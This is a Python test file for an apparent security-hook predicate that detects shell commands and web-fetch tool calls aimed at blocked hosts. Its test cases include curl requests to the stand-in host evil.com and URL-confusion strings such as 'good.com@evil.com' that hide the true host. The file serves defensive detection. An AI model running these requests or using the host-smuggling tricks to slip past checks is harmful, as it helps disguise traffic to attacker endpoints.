"""`url_host`."""

from types import SimpleNamespace

import pytest

from security_hooks.dsl.predicates.network import host_of
from security_hooks.dsl.truth import Truth
from security_hooks.model.event import ToolCall, ToolKind
from security_hooks.model.shell import Facts

NO, UNKNOWN, YES = Truth.NO, Truth.UNKNOWN, Truth.YES


@pytest.mark.parametrize(
    ("authority", "host"),
    [
        ("example.com", "example.com"),
        ("EXAMPLE.com:8080", "example.com"),
        ("example.com.", "example.com"),
        ("user:pass@example.com", "example.com"),
        ("good.com@evil.com", "evil.com"),
        ("[::1]:80", "[::1]"),
        ("[::1]", "[::1]"),
        ("münchen.example", "münchen.example"),
        ("good.com\\@evil.com", None),
        ("a%2eb", None),
        ("a b", None),
        ("a\tb", None),
        ("", None),
        ("a:b:c", None),
    ],
)
def test_host_of(authority: str, host: str | None) -> None:
    assert host_of(authority) == host


@pytest.mark.parametrize(
    ("script", "truth"),
    [
        ("curl https://evil.com/x", YES),
        ("curl https://EVIL.com:1/", YES),
        ("curl https://sub.evil.com", YES),
        ("curl https://evil.com.good.org", NO),
        ("curl https://good.org/?u=https://evil.com/", YES),
        ("curl --url=https://evil.com", YES),
        ("curl evil.com", NO),
        ("curl https://good.org/", NO),
        ("curl https://good.org/$X", NO),
        ("curl https://evil.com/$X", YES),
        ("curl https://good.org$X", UNKNOWN),
        ("curl https://$X/", UNKNOWN),
        ('curl https://"$X".good.org/', UNKNOWN),
        ("curl $X", UNKNOWN),
        ('curl "$X"/path', UNKNOWN),
        ("curl https://good.org\\@evil.com/", UNKNOWN),
        ("ls", NO),
    ],
)
def test_hosts_in_words(build: SimpleNamespace, script: str, truth: Truth) -> None:
    assert build.ask('url_host("evil.com", "*.evil.com")', build.facts(script)[0]) is truth


@pytest.mark.parametrize(("url", "truth"), [("https://evil.com/", YES), ("evil.com/x", YES), ("https://a.org/", NO)])
def test_hosts_that_a_tool_is_given(build: SimpleNamespace, url: str, truth: Truth) -> None:
    tool = ToolCall("WebFetch", ToolKind.FETCH, urls=(url,))
    assert build.ask('url_host("Evil.com")', Facts(build.call(tool=tool), None)) is truth
